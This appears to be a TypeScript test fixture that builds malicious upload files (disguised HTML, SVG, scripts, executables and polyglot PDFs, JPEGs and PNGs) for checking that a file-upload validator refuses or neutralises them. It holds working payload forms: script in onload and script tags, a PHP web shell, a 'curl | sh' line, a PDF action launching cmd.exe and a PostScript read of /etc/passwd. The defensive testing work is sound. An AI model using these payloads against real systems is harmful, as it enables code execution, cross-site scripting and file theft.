import { deflateRawSync, gzipSync } from 'node:zlib';

/** Harmful uploads, each with an accepted file name. A script in them that runs requests RAN_PATH. */

export const RAN_PATH = '/healthz?ran';
const SCRIPT = `new Image().src='${RAN_PATH}';alert('ran')`;
const HTML = `<!doctype html><html><body onload="${SCRIPT.replaceAll("'", '&#39;')}"><script>${SCRIPT}</script></body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT.replaceAll("'", '&#39;')}"><script>${SCRIPT}</script></svg>`;

const bytes = (text: string) => Buffer.from(text, 'latin1');
const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex');
const join = (...parts: (string | Buffer)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? bytes(part) : part)));

const PDF = '%PDF-1.7\n';
const PNG = hex('89504e470d0a1a0a 0000000d 49484452 00000001 00000001 08060000 00 1f15c489');
const IDAT = hex('0000000a 49444154 789c6300010000050001 0d0a2db4');
const IEND = hex('00000000 49454e44 ae426082');
const JPEG = hex('ffd8 ffe0 0010 4a46494600 0101 00 0001 0001 0000');
const ZIP = join(hex('504b0304 1400 0000 0800'), Buffer.alloc(18), deflateRawSync(bytes(HTML)));

/** A text chunk of a PNG, which decoders skip without checking its checksum. */
function pngText(text: string): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(text.length + 8);
  return join(length, 'tEXtComment\0', text, Buffer.alloc(4));
}

/** A comment in a JPEG. */
function jpegComment(text: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return join(hex('fffe'), length, text);
}

export interface HarmfulFile {
  name: string;
  content: Buffer;
}

/** Files of other types with an accepted extension; they have to be refused by their content. */
export const DISGUISED: readonly HarmfulFile[] = [
  { name: 'page.pdf', content: bytes(HTML) },
  { name: 'page with a byte order mark.pdf', content: join(hex('efbbbf'), HTML) },
  { name: 'page in utf-16.jpg', content: join(hex('fffe'), Buffer.from(HTML, 'utf16le')) },
  { name: 'page that is a pdf further on.pdf', content: join(HTML, '\n', PDF) },
  { name: 'pdf behind a blank.pdf', content: join(' ', PDF, HTML) },
  { name: 'drawing.png', content: bytes(SVG) },
  { name: 'drawing with a declaration.jpeg', content: join('<?xml version="1.0"?>', SVG) },
  { name: 'drawing, packed.png', content: gzipSync(bytes(SVG)) },
  { name: 'script.pdf', content: bytes(SCRIPT) },
  { name: 'picture that is a script.jpg', content: join('GIF89a/*', PDF, '*/=1;', SCRIPT) },
  { name: 'bitmap that is a script.png', content: join('BM=1;/*', Buffer.alloc(60), '*/', SCRIPT) },
  { name: 'archive.pdf', content: ZIP },
  { name: 'office file.pdf', content: hex(`d0cf11e0a1b11ae1${'00'.repeat(600)}`) },
  {
    name: 'program for windows.jpg',
    content: join('MZ', Buffer.alloc(58), hex('80000000'), Buffer.alloc(80)),
  },
  { name: 'program for linux.png', content: join(hex('7f454c46 020101'), Buffer.alloc(80)) },
  { name: 'shell.pdf', content: bytes('#!/bin/sh\ncurl http://example.com | sh\n') },
  { name: 'php.jpg', content: bytes("<?php system($_GET['c']); ?>") },
  { name: 'flash.png', content: join('FWS', hex('0a'), Buffer.alloc(60)) },
  { name: 'web archive.pdf', content: bytes(`MIME-Version: 1.0\nContent-Type: text/html\n\n${HTML}`) },
  { name: 'postscript.pdf', content: bytes('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n') },
  {
    name: 'animation.png',
    content: join(PNG, hex('00000008 6163544c 00000001 00000000 b92d1160'), IDAT, IEND),
  },
  { name: 'pdf under a picture’s name.jpg', content: join(PDF, HTML) },
];

/** Polyglots: valid documents that are also something else. They are accepted and must never run. */
export const TWO_FACED: readonly HarmfulFile[] = [
  { name: 'pdf and page.pdf', content: join(PDF, HTML) },
  {
    name: 'pdf that opens a script.pdf',
    content: join(PDF, `1 0 obj<</OpenAction<</S/JavaScript/JS(${SCRIPT})>>>>endobj\n`),
  },
  {
    name: 'pdf that starts a program.pdf',
    content: join(PDF, '1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n'),
  },
  { name: 'pdf and archive.pdf', content: join(PDF, ZIP) },
  { name: 'photo with a page in its comment.jpg', content: join(JPEG, jpegComment(HTML), hex('ffd9')) },
  { name: 'photo that is a script.jpeg', content: join(JPEG, jpegComment(`*/=1;${SCRIPT};/*`), hex('ffd9')) },
  { name: 'photo with php behind.jpg', content: join(JPEG, hex('ffd9'), "<?php system('id'); ?>") },
  { name: 'picture with a page in its text.png', content: join(PNG, pngText(HTML), IDAT, IEND) },
  { name: 'picture with a drawing behind.png', content: join(PNG, IDAT, IEND, SVG) },
];
